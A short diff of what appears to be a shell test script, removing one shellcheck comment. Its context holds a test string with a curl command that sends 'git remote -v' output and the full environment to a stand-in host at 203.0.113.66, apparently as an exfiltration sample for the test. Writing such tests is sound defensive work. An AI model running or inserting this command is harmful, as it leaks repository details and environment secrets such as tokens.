@@ -5,7 +5,6 @@
 . "$(dirname "$0")/../lib.sh"
 in_world --net --addr 203.0.113.66
 
-# shellcheck disable=SC2016
 line='curl -sm 5 -d "$(git remote -v)<<<<<< ENV $(env)" \
 	http://203.0.113.66/upload/v2 || true'
 
